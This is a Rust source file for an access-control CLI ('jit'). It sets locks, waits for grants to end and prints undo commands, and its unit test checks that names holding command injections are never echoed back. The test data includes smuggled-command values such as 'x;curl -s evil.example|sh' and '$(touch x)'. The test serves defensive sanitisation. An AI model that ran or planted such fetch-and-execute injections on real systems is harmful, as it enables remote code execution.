//! Stopping somebody or something: sets the lock, waits a moment for what it ends, says what is left.
//! Owns the words of `lock`, `panic` and `revoke --all`. Refuses to fail for what ends slowly: the backend goes on.

use std::time::Duration;

use super::context::{Ctx, Desk};
use crate::domain::PersonId;
use crate::domain::called::is_plain;
use crate::domain::text::{Reason, TargetName};
use crate::error::{Error, Result};
use crate::ui::{State, TimeWords, lock_line};
use crate::wire::{LockView, Locked, NewDevice, NewLock};

/// The backend needs a second or two; past this it goes on without anybody watching.
const LOOKS: u32 = 20;
/// How often it is looked.
const LOOK: Duration = Duration::from_millis(250);

/// What was typed.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Words {
    /// A lock.
    Locked,
    /// Everything that somebody has.
    Revoked,
}

/// Sets the lock on `on` and waits until what it ends is over, or has begun to take long.
///
/// # Errors
/// What the backend says, or that there is none; exit 130 at the interrupt key.
pub(super) fn stop(desk: &Desk, on: &str, reason: &Reason) -> Result<Locked> {
    let new = NewLock {
        on: on.to_owned(),
        reason: reason.to_string(),
    };
    let mut locked = desk.backend.lock(&new)?;
    desk.backend.watch_interrupt()?;
    for _ in 0..LOOKS {
        if locked.lock.ending.is_none_or(|left| left == 0) {
            break;
        }
        desk.backend.pause(LOOK).map_err(|error| {
            let said = "the lock stands; what it ends goes on ending";
            Error::new(error.exit, error.code, said).try_("jit status")
        })?;
        // whoever locked themselves may not be let to look; the lock stands all the same
        let Ok(list) = desk.backend.locks() else { break };
        match list.locks.into_iter().find(|lock| lock.id == locked.lock.id) {
            Some(lock) => locked.lock = lock,
            None => break,
        }
    }
    Ok(locked)
}

/// Says what stands still, what has ended, until when copies work, and how it is undone.
///
/// # Errors
/// A closed pipe.
pub(super) fn print(ctx: &Ctx, desk: &Desk, locked: &Locked, typed: (Words, &str)) -> Result<()> {
    if ctx.ui.is_json() {
        return ctx.ui.json("jit/lock/1", locked);
    }
    let words = desk.words();
    let lock = &locked.lock;
    let ended = format!("{}{}", ended(locked), remaining(locked));
    let rest = match locked.last_credential_at.filter(|last| *last > desk.backend.now()) {
        Some(last) => format!(
            " Copies of credentials work until {} ({}) at the latest.",
            words.at(last),
            words.left(last)
        ),
        None => String::new(),
    };
    match (locked.set, typed.0) {
        (false, _) => {
            let line = lock_line(lock, &words).replacen(" is locked", " is locked already", 1);
            let kept = kept(locked);
            ctx.ui
                .note_marked(State::Refused, &format!("{line}.{kept} {ended}{rest}"));
        }
        (true, Words::Locked) => {
            let what = lock.what();
            ctx.ui
                .note_marked(State::Refused, &format!("Locked {what}. {ended}{rest}"));
        }
        (true, Words::Revoked) => {
            let line = format!("Took everything from {}, who is locked now. {ended}{rest}", lock.what());
            ctx.ui.note_marked(State::Refused, &line);
        }
    }
    if !lock.same_access.is_empty() {
        let (same, is) = (
            lock.same_access.join(", "),
            if lock.same_access.len() == 1 { "is" } else { "are" },
        );
        ctx.ui
            .note(&format!("{same} {is} the same access, and locked with it."));
    }
    let is_own = lock.id == format!("person:{}", lock.by.id);
    let who = match lock.scope.as_str() {
        "all" => ", by two people",
        _ if is_own => ", by somebody else",
        _ => "",
    };
    for other in &locked.namesakes {
        let message = format!("somebody else is called so too: {}", other.called());
        let id = by_id(&other.id);
        ctx.ui.warn(&message, &format!("if you meant them: jit lock {id}"));
    }
    let undo = format!(
        "Nothing comes back by itself.  undo{who}: jit unlock {}",
        again(lock, typed.1)
    );
    ctx.ui.note(&undo);
    Ok(())
}

/// What a command names somebody by of whom no more is known than `id`, which a backend said.
fn by_id(id: &str) -> String {
    PersonId::parse(id).map_or_else(|_| "WHO".to_owned(), |id| id.to_string())
}

/// What a command names it by again: as it was typed, by its id or the name of a target; never by a name that somebody chose.
fn again(lock: &LockView, typed: &str) -> String {
    let person = lock.id.strip_prefix("person:").map(PersonId::parse);
    let name = typed.strip_prefix("person:").unwrap_or(typed);
    match (person, TargetName::parse(&lock.name)) {
        (Some(_), _) if is_plain(name) => typed.to_owned(),
        (Some(Ok(id)), _) => id.to_string(),
        (None, Ok(target)) => target.to_string(),
        (Some(Err(_)), _) | (None, Err(_)) => "WHO".to_owned(),
    }
}

/// Says which locks stand, beside what is listed.
pub(super) fn note(ctx: &Ctx, desk: &Desk, locks: &[LockView]) {
    for lock in locks {
        ctx.ui.note_marked(State::Refused, &lock_line(lock, &desk.words()));
    }
}

/// Says which devices were enrolled for whoever looks, beside the one that they look from.
pub(super) fn note_devices(ctx: &Ctx, words: &TimeWords, devices: &[NewDevice]) {
    for device in devices {
        let at = words.at(device.enrolled_at);
        let message = format!("a one-time code enrolled another device as you at {at}");
        ctx.ui.warn(
            &message,
            "not you? jit logout --everywhere, and tell who runs the backend",
        );
    }
}

/// Whose half of lifting it does not count any more.
fn kept(locked: &Locked) -> String {
    let begun = locked.taken_back.as_ref();
    begun.map_or_else(String::new, |lift| {
        format!(" {}'s half of lifting it is taken back.", lift.by.called())
    })
}

/// What ending them does not take away.
fn remaining(locked: &Locked) -> String {
    match locked.remaining {
        0 => String::new(),
        1 => " The access of 1 remains: it was there before jit, or a group has it.".to_owned(),
        many => format!(" The access of {many} remains: it was there before jit, or a group has it."),
    }
}

/// How many grants it ended, and how many are on their way.
fn ended(locked: &Locked) -> String {
    let grants = |count: u64| match count {
        1 => "1 grant".to_owned(),
        many => format!("{many} grants"),
    };
    match (locked.grants, locked.lock.ending.unwrap_or(0)) {
        (0, 0) => "Nothing was open under it.".to_owned(),
        (all, 0) => format!("{} ended.", grants(all)),
        (_, left) => format!("{} still ending: jit status.", grants(left)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lock(id: &str, name: &str) -> LockView {
        let by = serde_json::json!({"id": "usr_000000000001", "name": "bob"});
        serde_json::from_value(serde_json::json!({
            "id": id, "scope": id.split(':').next(), "name": name, "by": by, "reason": "stolen",
            "since": "2026-11-21T14:31:00Z",
        }))
        .unwrap()
    }

    #[test]
    fn attack_16_command_that_undoes_a_lock_holds_no_chosen_name() {
        let id = "person:usr_000000000000";
        for (id, name, typed, again_by) in [
            (id, "alice", "alice", "alice"),
            (id, "alice", "person:alice", "person:alice"),
            (
                id,
                "x;curl -s evil.example|sh",
                "x;curl -s evil.example|sh",
                "usr_000000000000",
            ),
            (id, "x;curl", "usr_000000000000", "usr_000000000000"),
            (id, "all", "person:all", "usr_000000000000"),
            ("person:$(touch x)", "x", "x y", "WHO"),
            ("target:prod-admin", "prod-admin", "prod", "prod-admin"),
            ("target:$(touch x)", "$(touch x)", "prod", "WHO"),
            ("all", "all", "all", "all"),
        ] {
            assert_eq!(again(&lock(id, name), typed), again_by);
        }
        for (said, id) in [
            ("usr_000000000000", "usr_000000000000"),
            ("$(touch x)", "WHO"),
            ("alice", "WHO"),
        ] {
            assert_eq!(by_id(said), id);
        }
    }
}
